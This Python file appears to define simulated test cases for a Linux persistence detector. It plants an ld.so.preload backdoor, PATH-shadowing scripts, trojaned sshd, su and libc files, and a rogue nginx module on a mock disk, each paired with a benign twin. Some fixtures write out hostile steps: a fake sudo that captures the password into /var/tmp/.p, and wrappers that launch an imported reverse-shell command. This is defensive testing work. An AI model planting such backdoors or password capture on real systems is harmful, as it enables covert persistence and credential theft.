"""The dynamic linker, the search path, and programs changed in their place: ld.so(8)."""

from __future__ import annotations

from dataclasses import replace
from typing import Final

from plantings.case import Act, Case, Twin, add, both, link, put, run, shell
from plantings.command import BASH_BACK, program, tool
from pratique.demo.disk import Disk
from pratique.demo.program import binary

_LINKER: Final = "Dynamic linker"
_PATH: Final = "PATH / shadow binaries"
_TROJANED: Final = "Trojaned binaries"
_LIB: Final = "/usr/lib/x86_64-linux-gnu"
_PRELOAD: Final = "/etc/ld.so.preload"
_ID: Final = "T1574.006"


def altered(path: str) -> Act:
    """The act of putting another content of the same size there, with the time of the old one."""

    def act(disk: Disk) -> None:
        item = disk[path]
        content = binary(f"other {path}", len(item.content))[: len(item.content)]
        disk.items[path] = replace(item, content=content)

    return act


def _wrapped(disk: Disk) -> None:
    item = disk["/usr/bin/cat"]
    disk.file("/usr/bin/cat.original", item.content, item.mode, item.owner, item.time)
    text = f'#!/bin/bash\n/bin/{BASH_BACK[:-1]} 2>/dev/null &\'\n/usr/bin/cat.original "$@"\n'
    disk.file("/usr/bin/cat", text, 0o755)


_PRELOADED: Final = Twin(
    "preload-of-package",
    "a library of a package before all others",
    _PRELOAD,
    put(_PRELOAD, f"{_LIB}/libkeyutils.so.1.10\n"),
)
_LOCAL: Final = Twin(
    "linker-folder-local",
    "libraries built by an administrator",
    "/etc/ld.so.conf.d/geos.conf",
    both(
        program("/usr/local/lib/libgeos.so.3"),
        put("/etc/ld.so.conf.d/geos.conf", "/usr/local/lib\n"),
    ),
)
_SCRIPT: Final = Twin(
    "local-script",
    "an administrator's script in /usr/local/bin",
    "/usr/local/bin/deploy",
    tool("/usr/local/bin/deploy"),
    table="file",
)
_BUILT: Final = Twin(
    "local-build",
    "a program built by an administrator",
    "/usr/local/bin/htop",
    program("/usr/local/bin/htop"),
    table="file",
)


def _trojan(slug: str, what: str, path: str, technique: str = "T1554") -> Case:
    return Case(
        slug, _TROJANED, technique, what, path, altered(path), _BUILT, table="file", timed=True
    )


CASES: Final = (
    Case(
        "preload",
        _LINKER,
        _ID,
        "a library that every program loads",
        _PRELOAD,
        both(
            put(
                "/tmp/preload/preload_backdoor.c",
                "int execve(const char *p, char *const a[], char *const e[]);\n",
            ),
            put("/tmp/preload/preload_backdoor.so", binary("preload_backdoor"), 0o755),
            put(_PRELOAD, "/tmp/preload/preload_backdoor.so\n"),
        ),
        _PRELOADED,
        "setup_ld_preload",
    ),
    Case(
        "preload-ordinary-name",
        _LINKER,
        _ID,
        "the same, under an ordinary name",
        _PRELOAD,
        both(
            program(f"{_LIB}/libselinux-compat.so.3"),
            put(_PRELOAD, f"{_LIB}/libselinux-compat.so.3\n"),
        ),
        _PRELOADED,
    ),
    Case(
        "linker-folder",
        _LINKER,
        _ID,
        "a hidden folder of libraries first",
        "/etc/ld.so.conf.d/00-compat.conf",
        both(
            program("/var/tmp/.lib/libc.so.6"),
            put("/etc/ld.so.conf.d/00-compat.conf", "/var/tmp/.lib\n"),
        ),
        _LOCAL,
    ),
    Case(
        "linker-audit",
        _LINKER,
        _ID,
        "an auditing library for every login",
        "/etc/environment",
        both(
            program(f"{_LIB}/libaudit-ld.so.1"),
            add("/etc/environment", f"LD_AUDIT={_LIB}/libaudit-ld.so.1\n"),
        ),
        Twin(
            "environment-library-path",
            "libraries of one's own",
            "/etc/environment",
            add("/etc/environment", "LD_LIBRARY_PATH=/opt/orders/lib\n"),
        ),
    ),
    Case(
        "gconv",
        _LINKER,
        _ID,
        "a module that converts no characters",
        f"{_LIB}/gconv/gconv-modules.d/extra.conf",
        both(
            program(f"{_LIB}/gconv/EXTRA.so"),
            put(f"{_LIB}/gconv/gconv-modules.d/extra.conf", "module EXTRA// INTERNAL EXTRA 1\n"),
        ),
        _LOCAL,
    ),
    Case(
        "libc-patched",
        _LINKER,
        _ID,
        "another C library of the same size and time",
        f"{_LIB}/libc.so.6",
        altered(f"{_LIB}/libc.so.6"),
        _LOCAL,
        table="file",
        timed=True,
    ),
    Case(
        "shadow-local",
        _PATH,
        "T1574.007",
        "a script that is found before ls",
        "/usr/local/bin/ls",
        run("/usr/local/bin/ls", shell(f"({BASH_BACK}) >/dev/null 2>&1 &", 'exec /bin/ls "$@"')),
        _SCRIPT,
        table="file",
    ),
    Case(
        "shadow-home",
        _PATH,
        "T1574.007",
        "a script that is found before sudo",
        "/home/anna/.local/bin/sudo",
        run(
            "/home/anna/.local/bin/sudo",
            shell('read -r -s p; echo "$p" >> /var/tmp/.p', 'exec /usr/bin/sudo "$@"'),
            (1000, 1000),
        ),
        Twin(
            "home-script",
            "a person's own script",
            "/home/anna/.local/bin/notes",
            run("/home/anna/.local/bin/notes", shell("nano ~/notes.txt"), (1000, 1000)),
            table="file",
        ),
        table="file",
    ),
    Case(
        "alternatives",
        _PATH,
        "T1036.005",
        "the editor is another program",
        "/etc/alternatives/editor",
        both(
            program("/var/lib/misc/editor"),
            link("/etc/alternatives/editor", "/var/lib/misc/editor"),
        ),
        Twin(
            "alternatives-vim",
            "the editor is vim",
            "/etc/alternatives/editor",
            link("/etc/alternatives/editor", "/usr/bin/vim.tiny"),
            table="file",
        ),
        table="file",
    ),
    Case(
        "binary-wrapped",
        _TROJANED,
        "T1554",
        "a script in the place of cat",
        "/usr/bin/cat",
        _wrapped,
        _BUILT,
        "setup_system_binary_backdoor",
        table="file",
    ),
    _trojan("sshd", "another sshd of the same size and time", "/usr/sbin/sshd"),
    _trojan("su", "another su of the same size and time", "/usr/bin/su"),
    _trojan("ps", "another ps of the same size and time", "/usr/bin/ps"),
    _trojan("libkeyutils", "another libkeyutils (as Ebury)", f"{_LIB}/libkeyutils.so.1.10"),
    _trojan("liblzma", "another liblzma", f"{_LIB}/liblzma.so.5.4.1"),
    _trojan("php", "another PHP", "/usr/sbin/php-fpm8.2"),
    Case(
        "nginx-module",
        _TROJANED,
        "T1554",
        "a module of no package for the web server",
        "/etc/nginx/modules-enabled/10-headers.conf",
        both(
            program("/usr/lib/nginx/modules/ngx_http_headers2_module.so"),
            put(
                "/etc/nginx/modules-enabled/10-headers.conf",
                "load_module modules/ngx_http_headers2_module.so;\n",
            ),
        ),
        _BUILT,
    ),
)
